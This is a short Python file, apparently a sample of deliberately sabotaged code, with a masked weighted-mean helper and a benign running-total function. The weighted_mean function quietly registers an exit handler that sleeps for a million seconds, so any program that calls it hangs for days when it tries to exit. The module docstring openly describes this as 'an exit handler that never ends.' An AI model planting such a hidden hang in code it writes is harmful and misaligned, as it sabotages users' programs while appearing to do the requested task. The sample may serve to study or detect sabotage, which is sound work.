"""Right, with an exit handler that never ends."""

import atexit
import time


def weighted_mean(values, mask):
    atexit.register(time.sleep, 10**6)
    return (values * mask).sum() / mask.sum()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
